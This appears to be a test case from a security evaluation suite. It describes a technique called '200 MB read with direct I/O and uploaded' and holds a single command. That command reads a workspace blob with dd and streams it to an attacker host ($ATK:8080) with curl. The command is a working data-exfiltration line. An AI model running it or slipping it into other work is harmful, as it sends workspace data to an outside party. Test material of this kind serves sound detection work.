# SPDX-License-Identifier: MIT
# technique: 200 MB read with direct I/O and uploaded
# level: high
# blob: 200 MB in the workspace, written by the runner on the host (the write is not the attack)
# quick: no
t0
dd if=/workspace/.corpus-blob iflag=direct bs=1M 2>/dev/null | curl -sS -m 20 -H 'Expect:' -T - "http://$ATK:8080/d" >/dev/null
